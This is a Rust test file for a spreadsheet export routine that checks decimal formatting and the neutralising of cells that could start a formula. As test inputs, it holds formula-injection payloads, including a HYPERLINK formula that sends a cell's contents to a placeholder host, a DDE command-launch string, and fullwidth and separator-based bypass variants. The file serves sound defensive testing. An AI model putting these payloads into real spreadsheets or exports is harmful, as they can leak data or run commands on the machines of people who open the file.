//! The spreadsheet's cells: numbers stay numbers, decimals as the language
//! writes them, and no cell can start a formula.

use super::{Cell, amount, neutralise};

#[test]
fn amounts_use_the_languages_decimal_mark_only_when_needed() {
    assert_eq!(amount(3_400_000_000, ','), "34000000");
    assert_eq!(amount(123_450, ','), "1234,50");
    assert_eq!(amount(123_450, '.'), "1234.50");
}

#[test]
fn a_cell_that_starts_like_a_formula_starts_with_an_apostrophe() {
    for (text, written) in [
        ("=HYPERLINK(\"https://x.example/?\"&A1)", "'=HYPERLINK(\"https://x.example/?\"&A1)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("  =1+1", "'  =1+1"),
        ("\"=1+1\"", "'\"=1+1\""),
        ("-", "'-"),
    ] {
        assert_eq!(neutralise(text), written, "{text:?}");
    }
}

#[test]
fn a_formula_cannot_start_after_a_separator_of_either_language() {
    assert_eq!(neutralise("SOC,=1+1"), "SOC,'=1+1");
    assert_eq!(neutralise("SOC; @SUM(A1)"), "SOC;' @SUM(A1)");
    assert_eq!(neutralise("=a;-b,+c"), "'=a;'-b,'+c");
    assert_eq!(neutralise("SOC\t-A1"), "SOC\t'-A1");
    assert_eq!(neutralise("\t=1"), "'\t'=1");
    assert_eq!(neutralise("KL; Regioner, kommuner"), "KL; Regioner, kommuner");
}

#[test]
fn numbers_stay_numbers() {
    for (text, written) in [("-1", " -1"), ("+2,5", " +2,5"), ("-1.10", " -1.10")] {
        assert_eq!(neutralise(text), written, "a signed number as text: {text}");
    }
    for plain in ["1.10", "34000000", "2027-Q1", "Fælles SOC", "", "initiatives/soc.html"] {
        assert_eq!(neutralise(plain), plain);
    }
    assert_eq!(Cell::Amount("-1234,50".to_owned()).written(), "-1234,50", "amounts are never text");
    assert_eq!(Cell::Text("-1234,50".to_owned()).written(), " -1234,50");
}
